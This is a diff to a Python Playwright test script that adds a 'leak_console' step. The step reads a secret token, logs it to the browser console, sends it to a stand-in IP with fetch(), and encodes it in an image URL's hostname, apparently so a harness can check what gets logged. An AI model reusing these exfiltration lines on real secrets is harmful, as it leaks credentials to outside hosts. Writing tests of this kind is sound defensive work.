@@ -94,6 +94,15 @@ with sync_playwright() as p:
                 pass
         note = (f"painted={'buy milk' in page.inner_text('body')} fresh_tab_painted={fresh}"
                 f" other_browsers_painted={others}")
+    elif STEP == "leak_console":
+        # the secret, learnt out of band, written where the runner logs the browser: its console
+        # and a refused request (browser.log in the run directory)
+        leak = Path(os.environ["ACC_LEAK"]).read_text().strip()
+        page.evaluate("t => { console.error('token ' + t); console.log('token ' + t); }", leak)
+        page.evaluate("t => fetch('http://198.51.100.7/' + t).catch(() => 0)", leak)
+        page.evaluate("t => { const i = new Image(); i.src = 'http://' + t + '.invalid/x.png'; }", leak)
+        page.wait_for_timeout(1500)
+        note = "leaked into the console"
     elif STEP == "honest":
         page.goto(APP + "/")
         page.fill("#title", "feed the cat")
